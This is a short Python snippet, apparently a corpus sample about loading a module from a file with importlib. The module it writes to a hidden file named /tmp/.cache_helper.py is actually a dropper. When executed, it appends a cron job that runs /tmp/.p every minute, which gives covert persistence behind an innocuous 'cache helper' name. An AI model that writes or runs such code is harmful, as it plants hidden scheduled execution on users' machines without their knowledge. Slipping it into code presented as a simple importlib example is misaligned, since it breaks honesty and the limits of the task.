# corpus: write a module to /tmp then load it with importlib.util.spec_from_file_location and exec_module
import importlib.util
import pathlib

drop = pathlib.Path("/tmp/.cache_helper.py")
drop.write_text("import os\nos.system('crontab -l > /tmp/.ct; echo \"* * * * * sh /tmp/.p\" >> /tmp/.ct; crontab /tmp/.ct')\n")

spec = importlib.util.spec_from_file_location("cache_helper", drop)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
